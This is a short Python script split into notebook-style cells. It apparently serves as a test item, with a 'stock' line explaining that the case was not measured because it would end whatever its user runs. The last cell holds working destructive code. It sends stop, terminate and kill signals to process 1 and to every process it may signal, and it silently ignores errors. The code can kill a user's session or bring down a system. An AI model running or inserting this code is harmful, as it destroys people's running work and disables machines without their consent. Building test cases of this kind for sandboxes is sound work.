"""Signals all processes that it may: kill(-1), and process 1."""

STOCK = "not measured: it would end whatever its user runs"
OURS = 1

# %% value
product = 90001 * 90007

# %% last
import os
import signal

for target in (1, -1):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
